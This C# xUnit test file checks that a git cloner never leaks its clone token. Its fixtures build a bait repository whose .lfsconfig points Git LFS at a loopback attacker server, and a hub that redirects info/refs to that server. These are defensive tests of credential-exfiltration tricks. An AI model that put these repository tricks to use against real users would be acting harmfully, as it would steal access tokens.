using System.Diagnostics;
using System.Text;
using ModelIde.Core.Git;
using ModelIde.Core.Models;
using ModelIde.Core.Tests.Hub;
using Xunit.Abstractions;

namespace ModelIde.Core.Tests.Git;

/// <summary>
/// Repositories and hubs that try to get the clone token to another host (issue 19 items 1 and 2): real git and
/// Debian's git-lfs, a git server and an attacker server on loopback, and a user whose git config has
/// <c>git lfs install</c> (as ModelScope's docs tell users to do), in an isolated HOME.
/// </summary>
public sealed class HostileRepositoryTests(ITestOutputHelper output) : IDisposable
{
    private const string Token = "git-hostile-test-token-4242";
    private static readonly ModelId Id = ModelId.Parse("evil/lfs-bait");
    private static readonly TimeSpan s_bound = TimeSpan.FromSeconds(90);
    private readonly TempFolder _temp = new();

    public void Dispose() => _temp.Dispose();

    [Fact]
    public async Task Lfsconfig_pointing_at_another_host_never_gets_the_token_and_the_clone_ends()
    {
        using var attacker = new LoopbackHttpServer();
        var repos = BuildRepository(new Dictionary<string, string>
        {
            [".gitattributes"] = "*.bin filter=lfs diff=lfs merge=lfs -text\n",
            [".lfsconfig"] = $"[lfs]\n\turl = {attacker.BaseUri}lfs\n",
            ["weights.bin"] = Pointer("payload"),
            ["README.md"] = "# bait\n",
        });
        using var hub = new LoopbackGitServer(repos, Token);
        var home = await UserHomeWithGitLfsInstalledAsync();

        var (error, ended) = await CloneAsync(hub, home);

        output.WriteLine($"attacker saw {attacker.Requests.Count} requests, {attacker.AuthorizedRequests} with Authorization; ended: {ended}; {error?.Message ?? "no error"}");
        Assert.Equal(0, attacker.AuthorizedRequests);
        Assert.True(ended, $"the clone did not end within {s_bound.TotalSeconds} s");
        // The repository's git content came from the hub, and the user is told why its LFS files were not fetched.
        Assert.True(File.Exists(Path.Combine(_temp.Path, "clone", "README.md")));
        Assert.NotNull(error);
        Assert.Contains(attacker.BaseUri.Authority, error.Message, StringComparison.Ordinal);
        Assert.Contains("not the hub", error.Message, StringComparison.Ordinal);
        Assert.Empty(attacker.Requests);
    }

    [Fact]
    public async Task Info_refs_redirected_to_another_host_that_asks_for_credentials_never_gets_the_token()
    {
        using var attacker = new LoopbackHttpServer();
        var repos = BuildRepository(new Dictionary<string, string> { ["README.md"] = "# redirected\n" });
        using var hub = new LoopbackGitServer(repos, Token) { RedirectInfoRefsTo = attacker.BaseUri };
        var home = await UserHomeWithGitLfsInstalledAsync();

        var (error, ended) = await CloneAsync(hub, home);

        output.WriteLine($"attacker saw {attacker.Requests.Count} requests, {attacker.AuthorizedRequests} with Authorization; {error?.Message}");
        Assert.Equal(0, attacker.AuthorizedRequests);
        Assert.True(ended, $"the clone did not end within {s_bound.TotalSeconds} s");
        Assert.NotNull(error);
        Assert.Contains("redirect", error.Message, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(Token, error.Message, StringComparison.Ordinal);
    }

    /// <summary>Clones, stopping git after a bound (a clone that needs it has failed the test: checked after the token counts).</summary>
    private async Task<(ModelIdeException? Error, bool Ended)> CloneAsync(LoopbackGitServer hub, string home)
    {
        using var cts = new CancellationTokenSource(s_bound);
        var cloner = new GitCloner(environment: IsolatedGitEnvironment(home));
        try
        {
            await cloner.CloneAsync(hub.BaseUri, Id, Path.Combine(_temp.Path, "clone"), null, Token, null, cts.Token);
            return (null, true);
        }
        catch (ModelIdeException ex)
        {
            return (ex, true);
        }
        catch (OperationCanceledException)
        {
            return (null, false);
        }
    }

    private static Dictionary<string, string> IsolatedGitEnvironment(string home) => new()
    {
        ["HOME"] = home,
        ["XDG_CONFIG_HOME"] = Path.Combine(home, ".config"),
        ["GIT_CONFIG_NOSYSTEM"] = "1",
    };

    /// <summary>A HOME whose ~/.gitconfig has what <c>git lfs install</c> writes (the smudge filter on for every clone).</summary>
    private async Task<string> UserHomeWithGitLfsInstalledAsync()
    {
        var home = Directory.CreateDirectory(Path.Combine(_temp.Path, "home")).FullName;
        await GitAsync(home, IsolatedGitEnvironment(home), "lfs", "install");
        var config = await File.ReadAllTextAsync(Path.Combine(home, ".gitconfig"));
        Assert.Contains("git-lfs filter-process", config, StringComparison.Ordinal);
        return home;
    }

    /// <summary>Builds <c>{root}/evil/lfs-bait.git</c> (bare) holding <paramref name="files"/> in one commit; returns root.</summary>
    private string BuildRepository(IReadOnlyDictionary<string, string> files)
    {
        var work = Directory.CreateDirectory(Path.Combine(_temp.Path, "work")).FullName;
        foreach (var (path, text) in files)
        {
            File.WriteAllText(Path.Combine(work, path), text);
        }

        var env = new Dictionary<string, string>
        {
            ["GIT_CONFIG_NOSYSTEM"] = "1",
            ["GIT_CONFIG_GLOBAL"] = "/dev/null",
            ["GIT_AUTHOR_NAME"] = "evil",
            ["GIT_AUTHOR_EMAIL"] = "evil@example.invalid",
            ["GIT_COMMITTER_NAME"] = "evil",
            ["GIT_COMMITTER_EMAIL"] = "evil@example.invalid",
        };
        var root = Path.Combine(_temp.Path, "repos");
        Run(work, env, "init", "-q", "-b", "master");
        Run(work, env, "add", "-A");
        Run(work, env, "commit", "-q", "-m", "bait");
        Directory.CreateDirectory(Path.Combine(root, Id.Owner));
        Run(root, env, "clone", "-q", "--bare", work, Path.Combine(root, Id.Owner, Id.Name + ".git"));
        return root;

        static void Run(string dir, Dictionary<string, string> env, params string[] args) => GitAsync(dir, env, args).GetAwaiter().GetResult();
    }

    /// <summary>An LFS pointer (the text git-lfs commits in place of the file) for <paramref name="content"/>.</summary>
    public static string Pointer(string content)
    {
        var bytes = Encoding.UTF8.GetBytes(content);
        var oid = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(bytes));
        return $"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {bytes.Length}\n";
    }

    private static async Task GitAsync(string dir, IReadOnlyDictionary<string, string> env, params string[] args)
    {
        var psi = new ProcessStartInfo("git") { WorkingDirectory = dir, RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
        foreach (var arg in args)
        {
            psi.ArgumentList.Add(arg);
        }

        foreach (var (key, value) in env)
        {
            psi.Environment[key] = value;
        }

        using var process = Process.Start(psi)!;
        var stdout = process.StandardOutput.ReadToEndAsync();
        var stderr = process.StandardError.ReadToEndAsync();
        await process.WaitForExitAsync();
        Assert.True(process.ExitCode == 0, $"git {string.Join(' ', args)} failed: {await stdout}{await stderr}");
    }
}
